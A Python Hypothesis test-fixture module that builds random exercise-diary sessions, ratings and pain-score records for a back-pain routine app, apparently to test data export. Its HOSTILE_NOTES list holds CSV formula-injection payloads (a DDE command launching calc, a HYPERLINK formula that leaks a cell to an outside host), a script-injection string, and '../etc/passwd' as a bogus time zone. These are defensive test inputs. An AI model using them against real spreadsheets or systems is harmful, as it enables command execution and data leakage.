"""Any diary that somebody could have kept, and some of those that are hard to write down."""

from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID, uuid5
from zoneinfo import available_timezones

from hypothesis import strategies as st

from webapp.export.names import Names
from webapp.practice.kept import KeptOutcome, KeptRating, KeptSession
from webapp.trends.function import FunctionRecord, Items
from webapp.trends.records import local

PERSON = UUID(int=1)
ROUTINE = "legs-up-release"
STEPS = ("settle", "knees", "twist")
NAMES = Names(
    {ROUTINE: "Legs-up release"},
    {(ROUTINE, "settle"): "Settle", (ROUTINE, "knees"): "Knees side to side"},
    {"back": "Lower back", "leg": "Leg"},
)

HOSTILE_NOTES = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1,"press")',
    "+44 7700 900123",
    "-2 today",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1"',
    "'=1+1",
    "＝1+1",
    "better; =1+1",
    "one\n=1+1\r\n-2",
    'she said "5, or 6"',
    "a,b;c\td",
    "0",
    "🙂🏳️‍🌈 e\u0301 \u202e right to left \u202c",
    "line\u2028separator\u2029paragraph\u0085next\x0bdown",
    "no\xa0break\ufeffmark",
    "bell\x07 null-like\x1f del\x7f",
    "</script><script>alert(1)</script>",
    '{"resourceType": "Patient"}',
    "\\u0000 \\ / \b",
    "x" * 2000,
)

AT = datetime(2026, 7, 1, 7, 30, tzinfo=UTC)


def session(number: int = 0, *, at: datetime = AT, zone: str = "Europe/London", **given: Any) -> KeptSession:
    """A whole session of seven minutes, 6 before and 4 after, on the morning of 1 July 2026 unless said otherwise."""
    values = {
        "id": uuid5(PERSON, f"session {number}"),
        "routine": ROUTINE,
        "variant": "standard",
        "started_at": at,
        "ended_at": at + timedelta(minutes=8),
        "time_zone": zone,
        "local_day": local(at, zone).date(),
        "planned_seconds": 420.0,
        "heard_seconds": 420.0,
        "easier_steps": (),
        "left_out_steps": (),
        "flare": False,
        "note": "",
        "before": 6,
        "after": 4,
        "morning": None,
        "outcomes": (),
    }
    return KeptSession(**{**values, **given})


def outcome(kind: str = "hurt", step: str = "knees", number: int = 0, **given: Any) -> KeptOutcome:
    values = {"happened_at": AT + timedelta(minutes=2), "leg_symptoms": False, "body_part": None, "strength": None}
    row = uuid5(PERSON, f"{kind} {step} {number}")
    return KeptOutcome(**{"id": row, "step": step, "kind": kind, **values, **given})


def rating(number: int = 0, *, at: datetime = AT, zone: str = "Europe/London", **given: Any) -> KeptRating:
    values = {"id": uuid5(PERSON, f"rating {number}"), "moment": "now", "score": 5}
    return KeptRating(**{**values, "rated_at": at, "time_zone": zone, "local_day": local(at, zone).date(), **given})


TEXTS = st.text(max_size=60) | st.sampled_from(HOSTILE_NOTES)
SCORES = st.none() | st.integers(0, 10)
ZONES = st.sampled_from(sorted(available_timezones())) | st.sampled_from(["", "Mars/Olympus", "../etc/passwd"])
TIMES = st.datetimes(datetime(1900, 1, 2), datetime(2199, 12, 30), timezones=st.just(UTC))  # noqa: DTZ001 given one
SLUGS = st.sampled_from([ROUTINE, "own-0123", "gone-since"])


@st.composite
def outcomes(draw: st.DrawFn) -> KeptOutcome:
    return KeptOutcome(
        draw(st.uuids()),
        draw(st.sampled_from(STEPS)),
        draw(st.sampled_from(["eased", "hurt", "skipped"])),
        draw(TIMES),
        draw(st.booleans()),
        draw(st.sampled_from([None, "back", "leg", "a part of later"])),
        draw(SCORES),
    )


@st.composite
def sessions(draw: st.DrawFn) -> KeptSession:
    at, zone = draw(TIMES), draw(ZONES)
    return session(
        at=at,
        zone=zone,
        id=draw(st.uuids()),
        routine=draw(SLUGS),
        ended_at=draw(st.none() | st.integers(-60, 90_000).map(lambda seconds: at + timedelta(seconds=seconds))),
        planned_seconds=draw(st.floats(0, 3600)),
        heard_seconds=draw(st.floats(0, 3600)),
        easier_steps=tuple(draw(st.lists(st.sampled_from(STEPS), max_size=2))),
        left_out_steps=tuple(draw(st.lists(st.sampled_from(STEPS), max_size=2))),
        flare=draw(st.booleans()),
        note=draw(TEXTS),
        before=draw(SCORES),
        after=draw(SCORES),
        morning=draw(SCORES),
        outcomes=tuple(draw(st.lists(outcomes(), max_size=3))),
    )


@st.composite
def diaries(draw: st.DrawFn) -> tuple[list[KeptSession], list[KeptRating], list[FunctionRecord]]:
    """Sessions, ratings that belong to some of them or stand alone, and answers of the PEG. No id stands twice."""
    kept = draw(st.lists(sessions(), max_size=3, unique_by=lambda one: one.id))
    given = []
    for of in draw(st.lists(st.none() | st.sampled_from(kept) if kept else st.none(), max_size=4)):
        moment = draw(st.sampled_from(["before", "after", "morning"])) if of else "now"
        linked: dict[str, Any] = {"session_id": of.id, "session_day": of.local_day, "routine": of.routine} if of else {}
        at, zone = draw(TIMES), draw(ZONES)
        score = draw(st.integers(0, 10))
        given.append(rating(at=at, zone=zone, id=draw(st.uuids()), moment=moment, score=score, **linked))
    items = st.builds(Items, st.integers(0, 10), st.integers(0, 10), st.integers(0, 10))
    answers = draw(st.lists(st.builds(FunctionRecord, st.uuids(), TIMES, ZONES, items), max_size=2))
    return kept, given, answers


ALWAYS = (date(1900, 1, 1), date(2199, 12, 31))
